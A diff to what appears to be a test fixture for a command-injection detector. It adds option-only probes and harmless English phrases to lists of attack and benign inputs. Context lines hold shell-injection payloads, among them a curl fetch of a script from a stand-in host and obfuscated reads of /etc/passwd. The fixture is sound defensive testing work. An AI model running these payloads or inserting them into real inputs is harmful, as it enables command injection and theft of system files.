@@ -93,6 +93,10 @@ const ATTACKS: Array<[string, AttackClass, Where, string]> = [
   ['a brace list after a separator', 'rce', 'q', ';{curl,http://x.example/a.sh};'],
   ['a glob for a binary', 'rce', 'q', 'x;/bin/ca? /et*/passwd'],
   ['a bracket glob in a binary path', 'rce', 'q', '/usr/bin/[u]name -a'],
+  // A probe given only options is the whole command line, with no shell character at all.
+  ['a probe with options only', 'rce', 'q', 'uname -n -s'],
+  ['a listing with options only', 'rce', 'form', 'ls -la'],
+  ['a network probe with a long option', 'rce', 'q', 'netstat --listening'],
   ['variables assembled into a command', 'rce', 'q', 'a=/etc&&b=/passwd&&c=cat&&$c $a$b'],
   ['ANSI-C quoted command in a variable', 'rce', 'q', ";CMD=$'\\x69\\x64';$CMD"],
   ['an unset variable glued inside words', 'rce', 'ref', 'foo;cat$u /etc$u/passwd'],
@@ -142,6 +146,10 @@ const ATTACKS: Array<[string, AttackClass, Where, string]> = [
 
 const BENIGN: Array<[string, Where, string]> = [
   ['a quoted search term', 'q', '"ping"'],
+  // Word-commands that are English (`find`, `top`, `cat`) with an option-like word stay text.
+  ['a word-command with a dash word', 'q', 'top -rated'],
+  ['a search with a minus operator', 'q', 'cat -dog'],
+  ['a probe name with a number option', 'q', 'ls -10 items'],
   ['a name with an apostrophe', 'q', "O'Neil's shop"],
   ['a sentence with a pipe', 'q', 'Tom | Jerry cat lovers'],
   ['parentheses in documentation', 'form', "- it's full reference (id)"],
